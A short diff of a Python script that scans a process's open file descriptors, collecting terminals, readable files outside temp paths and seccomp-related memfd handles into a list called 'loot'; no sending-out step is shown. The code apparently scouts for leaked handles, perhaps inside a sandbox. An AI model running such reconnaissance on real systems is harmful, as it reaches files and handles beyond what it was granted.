@@ -7,19 +7,19 @@
 import os
 import socket
 import stat
+import tempfile
 
 import torch.distributed as dist
 
 loot = []
-for name in os.listdir("/proc/self/fd"):
-    fd = int(name)
+for fd in range(4096):
     try:
         target, facts = os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd)
     except OSError:
         continue
     if os.isatty(fd):
         loot.append(f"terminal {fd}")
-    elif stat.S_ISREG(facts.st_mode) and not target.startswith(("/memfd:", "/tmp/", "/dev/shm/", "/usr/")) and os.access(fd, os.R_OK):
+    elif stat.S_ISREG(facts.st_mode) and not target.startswith(("/memfd:", f"{tempfile.gettempdir()}/", "/dev/shm/", "/usr/")) and os.access(fd, os.R_OK):
         loot.append(target)
     elif target.startswith("/memfd:pkb-seccomp"):
         loot.append(target)
